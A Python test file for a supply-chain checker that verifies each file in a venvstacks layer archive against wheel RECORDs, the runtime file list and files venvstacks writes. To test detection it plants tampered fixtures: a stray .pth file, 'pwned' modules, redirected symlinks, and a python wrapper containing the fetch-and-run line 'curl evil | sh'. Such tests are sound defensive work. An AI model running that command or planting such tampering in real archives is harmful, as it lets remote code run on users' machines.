"""Every file of a layer archive is accounted for: by a wheel, the runtime list, or venvstacks."""

from __future__ import annotations

from pathlib import Path

from srcstacks.state.archive_reader import ArchiveContents, InstalledDist, WheelFiles, record_digest
from srcstacks.tools.venvstacks import LayerMetadata
from srcstacks.tools.venvstacks_writes import LayerFiles, Written
from srcstacks.verify.accounting import InstalledWheel, account_for_files

SITE = "lib/python3.11/site-packages"
GREETER = b"print('hello')\n"
WRAPPER = b"#!/usr/bin/bash\nexec python_\n"
POSTINSTALL = b"# venvstacks\n"
LAYER_CONFIG = b"{}"
MODULE = "the spec's module launch_modules/greeter.py"


def app_layer() -> LayerMetadata:
    return LayerMetadata(
        install_target="app-x",
        archive_name="app-x.tar.xz",
        archive_sha256="0" * 64,
        runtime_layer="cpython-3.11",
        app_launch_module="greeter",
        python_implementation="cpython@3.11.7",
    )


def app_written() -> LayerFiles:
    """What venvstacks writes into app-x, as tools.venvstacks_writes regenerates it."""
    link = "venvstacks (link to the wrapper)"
    return LayerFiles(
        SITE,
        {
            "postinstall.py": Written(record_digest(POSTINSTALL), "venvstacks' postinstall.py"),
            "share/venv/metadata/venvstacks_layer.json": Written(
                record_digest(LAYER_CONFIG), "venvstacks' layer config for this spec"
            ),
            "bin/python": Written(record_digest(WRAPPER), "the python wrapper venvstacks writes"),
            "bin/python3": Written("symlink:python", link),
            "bin/python3.11": Written("symlink:python", link),
            "bin/python_": Written(
                "symlink:../../cpython-3.11/bin/python", "venvstacks (the runtime's python)"
            ),
            "lib64": Written("symlink:lib", "venvstacks (the venv's lib64 link)"),
            f"{SITE}/greeter.py": Written(record_digest(GREETER), MODULE),
        },
    )


def runtime_written() -> LayerFiles:
    return LayerFiles(
        SITE, {"postinstall.py": Written(record_digest(POSTINSTALL), "venvstacks' postinstall.py")}
    )


WHEEL_FILES = {
    "idna/__init__.py": b"x = 1\n",
    "idna-3.11.dist-info/METADATA": b"Name: idna\nVersion: 3.11\n",
    "idna-3.11.dist-info/fromager-build-settings": b"",
}


def wheel() -> InstalledWheel:
    record = {path: record_digest(data) for path, data in WHEEL_FILES.items()}
    dist = InstalledDist("idna", "3.11", "idna-3.11.dist-info")
    return InstalledWheel(dist, "idna-3.11-0-py3-none-any.whl", WheelFiles(record))


def app_members(**changes: bytes | str | None) -> dict[str, str]:
    """The members of a well-formed app layer archive; ``changes`` add, alter or drop."""
    files: dict[str, bytes | str | None] = {
        "postinstall.py": POSTINSTALL,
        "share/venv/metadata/venvstacks_layer.json": LAYER_CONFIG,
        "bin/python": WRAPPER,
        "bin/python3": "symlink:python",
        "bin/python3.11": "symlink:python",
        "bin/python_": "symlink:../../cpython-3.11/bin/python",
        "lib64": "symlink:lib",
        f"{SITE}/greeter.py": GREETER,
        f"{SITE}/idna-3.11.dist-info/INSTALLER": b"uv",
        f"{SITE}/idna-3.11.dist-info/RECORD": b"rewritten",
        **{f"{SITE}/{path}": data for path, data in WHEEL_FILES.items()},
    }
    files.update(changes)
    members = {"app-x/": "dir", f"app-x/{SITE}/": "dir"}
    for path, data in files.items():
        if data is None:
            continue
        members[f"app-x/{path}"] = data if isinstance(data, str) else record_digest(data)
    return members


def problems(members: dict[str, str], layer: LayerMetadata | None = None) -> list[str]:
    contents = ArchiveContents(Path("app-x.tar.xz"), "0" * 64, (), {}, (), members)
    return account_for_files(contents, layer or app_layer(), [wheel()], None, app_written())


def test_a_well_formed_layer_is_fully_accounted_for() -> None:
    assert problems(app_members()) == []


def test_a_pth_file_of_no_wheel_is_named() -> None:
    found = problems(app_members(**{f"{SITE}/zz_evil.pth": b"import os\n"}))
    assert found == [
        f"app-x.tar.xz: app-x/{SITE}/zz_evil.pth is unaccounted for (in no wheel's RECORD,"
        " not in the runtime's file list, not a file venvstacks writes)"
    ]


def test_changed_missing_and_relinked_files_are_named() -> None:
    found = problems(
        app_members(**{
            f"{SITE}/idna/__init__.py": b"x = 2\n",
            f"{SITE}/idna-3.11.dist-info/METADATA": None,
            "bin/python_": "symlink:/usr/bin/python3",
            f"{SITE}/greeter.py": b"print('pwned')\n",
            f"{SITE}/__pycache__/greeter.cpython-311.pyc": b"\x00",
        })
    )  # fmt: skip
    assert found == [
        "app-x.tar.xz: app-x/bin/python_ differs from venvstacks (the runtime's python)",
        f"app-x.tar.xz: app-x/{SITE}/greeter.py differs from {MODULE}",
        "app-x.tar.xz: idna/__init__.py differs from the file in idna-3.11-0-py3-none-any.whl",
        f"app-x.tar.xz: app-x/{SITE}/__pycache__/greeter.cpython-311.pyc is unaccounted for"
        " (in no wheel's RECORD, not in the runtime's file list, not a file venvstacks writes)",
        "app-x.tar.xz: idna-3.11.dist-info/METADATA from idna-3.11-0-py3-none-any.whl is missing",
    ]


def test_a_member_outside_the_layer_folder_is_named() -> None:
    members = app_members()
    members["elsewhere/x.py"] = record_digest(b"")
    assert problems(members) == [
        "app-x.tar.xz: elsewhere/x.py lies outside the layer's folder app-x/"
    ]


def test_runtime_files_come_from_the_runtime_list() -> None:
    runtime = LayerMetadata(
        install_target="cpython-3.11",
        archive_name="cpython-3.11.tar.xz",
        archive_sha256="0" * 64,
        runtime_layer="cpython-3.11",
        python_implementation="cpython@3.11.7",
    )
    listed = {"bin/python3.11": record_digest(b"ELF"), "bin/python3": "symlink:python3.11"}
    members = {
        "cpython-3.11/bin/python3.11": record_digest(b"ELF"),
        "cpython-3.11/bin/python3": "symlink:python3.11",
        "cpython-3.11/postinstall.py": record_digest(POSTINSTALL),
    }
    contents = ArchiveContents(Path("cpython-3.11.tar.xz"), "0" * 64, (), {}, (), members)
    assert account_for_files(contents, runtime, [], listed, runtime_written()) == []
    members["cpython-3.11/lib/python3.11/sitecustomize.py"] = record_digest(b"evil")
    members["cpython-3.11/bin/python3"] = "symlink:/tmp/evil"
    members["cpython-3.11/postinstall.py"] = record_digest(b"# venvstacks, edited\n")
    assert account_for_files(contents, runtime, [], listed, runtime_written()) == [
        "cpython-3.11.tar.xz: cpython-3.11/bin/python3 differs from the runtime's file list",
        "cpython-3.11.tar.xz: cpython-3.11/postinstall.py differs from venvstacks' postinstall.py",
        "cpython-3.11.tar.xz: cpython-3.11/lib/python3.11/sitecustomize.py is unaccounted for"
        " (in no wheel's RECORD, not in the runtime's file list, not a file venvstacks writes)",
    ]


UNACCOUNTED = (
    " is unaccounted for (in no wheel's RECORD, not in the runtime's file list,"
    " not a file venvstacks writes)"
)


def test_a_replaced_python_wrapper_is_named() -> None:
    """Issue 23, hole 1: the wrapper every python of the layer runs is checked by content."""
    found = problems(app_members(**{"bin/python": b"#!/usr/bin/bash\ncurl evil | sh\n"}))
    assert found == [
        "app-x.tar.xz: app-x/bin/python differs from the python wrapper venvstacks writes"
    ]


def test_a_module_beside_or_inside_the_launch_module_is_unaccounted() -> None:
    """A package of the launch module's name would shadow it; nothing is accepted by name."""
    found = problems(
        app_members(**{
            f"{SITE}/greeter/__init__.py": b"print('pwned')\n",
            "bin/idna-cli": b"#!/usr/bin/env python\n",
        })
    )  # fmt: skip
    assert found == [
        f"app-x.tar.xz: app-x/bin/idna-cli{UNACCOUNTED}",
        f"app-x.tar.xz: app-x/{SITE}/greeter/__init__.py{UNACCOUNTED}",
    ]


def test_a_file_venvstacks_writes_missing_is_named() -> None:
    found = problems(app_members(**{"share/venv/metadata/venvstacks_layer.json": None}))
    assert found == [
        "app-x.tar.xz: app-x/share/venv/metadata/venvstacks_layer.json from venvstacks'"
        " layer config for this spec is missing"
    ]


def test_a_wheels_own_bytecode_is_not_expected_in_the_archive() -> None:
    """numpy 2.3.2's wheel ships ``numpy/distutils/__pycache__/conv_template.cpython-311.pyc``;
    venvstacks leaves every ``__pycache__`` folder out of its archives."""
    pyc = "idna/__pycache__/core.cpython-311.pyc"
    record = {path: record_digest(data) for path, data in WHEEL_FILES.items()}
    record[pyc] = record_digest(b"\x00")
    with_bytecode = InstalledWheel(wheel().dist, wheel().wheel_name, WheelFiles(record))
    contents = ArchiveContents(Path("app-x.tar.xz"), "0" * 64, (), {}, (), app_members())
    assert account_for_files(contents, app_layer(), [with_bytecode], None, app_written()) == []
    # One in the archive is no wheel's file: venvstacks never ships it.
    members = app_members(**{f"{SITE}/{pyc}": b"\x00"})
    contents = ArchiveContents(Path("app-x.tar.xz"), "0" * 64, (), {}, (), members)
    assert account_for_files(contents, app_layer(), [with_bytecode], None, app_written()) == [
        f"app-x.tar.xz: app-x/{SITE}/{pyc} is unaccounted for (in no wheel's RECORD, not in"
        " the runtime's file list, not a file venvstacks writes)"
    ]
